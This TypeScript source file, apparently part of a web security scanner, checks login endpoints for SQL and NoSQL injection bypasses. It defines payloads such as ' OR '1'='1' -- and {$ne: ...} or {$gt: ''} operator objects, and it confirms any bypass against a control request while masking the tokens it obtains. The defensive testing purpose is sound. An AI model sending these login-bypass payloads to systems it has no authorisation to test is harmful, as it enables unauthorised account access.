// Injection at the login (part of the injection check): an SQL tautology or a NoSQL operator
// object in place of the user name or the password, sent for a user name that does not exist.
// The effect is the proof: the same login with plain values is refused, and with the payload it
// hands out a token or a session; a second payload with other literals or another operator
// agrees. Logins are the one write the safety policy allows with a body the target may accept:
// nothing is changed, and the token obtained is masked in the evidence.
import { randomInt } from 'node:crypto';
import type { CheckContext } from '../check.ts';
import type { Exchange } from '../finding.ts';
import type { HttpResult } from '../http/client.ts';
import { usable } from '../http/client.ts';
import { issuedToken } from '../identities/login.ts';
import { exchange, masked } from '../lib/evidence.ts';
import type { Json } from '../spec/refs.ts';
import { loginEndpoints } from './authentication.ts';
import type { LoginEndpoint } from './authentication.ts';

const MAX_ENDPOINTS = 3;

interface Payload {
  label: string;
  user: (unknown: string) => Json;
  password: (wrong: string) => Json;
}

/** Two tautologies each: in the user name (the rest commented out), then in the password. */
const SQL: readonly Payload[][] = [
  [
    { label: "user name `…' OR '1'='1' -- `", user: (u) => `${u}' OR '1'='1' -- `, password: (p) => p },
    { label: "user name `…' OR 'zq'='zq' -- `", user: (u) => `${u}' OR 'zq'='zq' -- `, password: (p) => p },
  ],
  [
    { label: "password `…' OR '1'='1`", user: (u) => u, password: (p) => `${p}' OR '1'='1` },
    { label: "password `…' OR 'zq'='zq`", user: (u) => u, password: (p) => `${p}' OR 'zq'='zq` },
  ],
];
/** Operator objects in both fields (JSON logins only): `$ne` a value nobody has, then `$gt` the empty string. */
const NOSQL: readonly Payload[] = [
  { label: '`{"$ne": …}` in both fields', user: (u) => ({ $ne: u }), password: (p) => ({ $ne: p }) },
  { label: '`{"$gt": ""}` in both fields', user: () => ({ $gt: '' }), password: () => ({ $gt: '' }) },
];

type Rule = 'injection.sql-login-bypass' | 'injection.nosql';
export type LoginReport = (rule: Rule, endpoint: LoginEndpoint, summary: string, exchanges: Exchange[]) => void;

export async function loginInjection(ctx: CheckContext, report: LoginReport): Promise<void> {
  for (const endpoint of loginEndpoints(ctx).slice(0, MAX_ENDPOINTS)) await probe(ctx, endpoint, report);
}

async function probe(ctx: CheckContext, endpoint: LoginEndpoint, report: LoginReport): Promise<void> {
  const unknown = `rampart-${ctx.token}-${randomInt(1e6)}`;
  const wrong = `Wrong-${ctx.token}-Pw`;
  const send = (user: Json, password: Json, purpose: string): Promise<HttpResult> => {
    const values: Record<string, Json> = { ...(endpoint.fields as Record<string, Json>), [endpoint.usernameField]: user, [endpoint.passwordField]: password };
    const json = endpoint.contentType === 'json';
    const body = json ? JSON.stringify(values) : new URLSearchParams(Object.entries(values).map(([k, v]): [string, string] => [k, typeof v === 'string' ? v : JSON.stringify(v)])).toString();
    return ctx.send({ method: 'POST', url: endpoint.url, headers: { 'content-type': json ? 'application/json' : 'application/x-www-form-urlencoded' }, body, purpose: `login injection: ${purpose}` });
  };
  const where = endpoint.location.route;
  const control = await send(unknown, wrong, 'control: an unknown user name');
  if (!usable(control)) return;
  if (control.response.status < 400 || issuedToken(control.response, undefined) !== undefined) {
    ctx.note(`login injection: ${where} not probed: it answered ${control.response.status} to an unknown user name, so a bypass could not be told from an ordinary answer`);
    return;
  }
  const series: [Rule, readonly Payload[]][] = SQL.map((pair) => ['injection.sql-login-bypass', pair]);
  if (endpoint.contentType === 'json') series.push(['injection.nosql', NOSQL]);
  const done = new Set<string>();
  for (const [rule, [first, second]] of series) {
    if (done.has(rule) || first === undefined || second === undefined) continue;
    const a = await send(first.user(unknown), first.password(wrong), first.label);
    const token = usable(a) && a.response.status < 300 ? issuedToken(a.response, undefined) : undefined;
    if (token === undefined) continue;
    const b = await send(second.user(unknown), second.password(wrong), second.label);
    const again = usable(b) && b.response.status < 300 ? issuedToken(b.response, undefined) : undefined;
    if (again === undefined) continue;
    done.add(rule);
    const hide = [token.value, again.value, ...token.value.split('; ').map((c) => c.slice(c.indexOf('=') + 1)), ...again.value.split('; ').map((c) => c.slice(c.indexOf('=') + 1))];
    const kind = rule === 'injection.nosql' ? 'operator objects reach a document query as they are' : 'the values are pasted into the SQL query';
    report(rule, endpoint,
      `POST ${where} refused an unknown user name with a wrong password (${control.response.status}), but with ${first.label} it answered ${usable(a) ? a.response.status : ''} and handed out a token (${token.at}), and again with ${second.label}: ${kind}, so anyone signs in without a password.`,
      [exchange('control: unknown user, wrong password', control), masked(exchange(first.label, a), hide), masked(exchange(second.label, b), hide)]);
  }
}
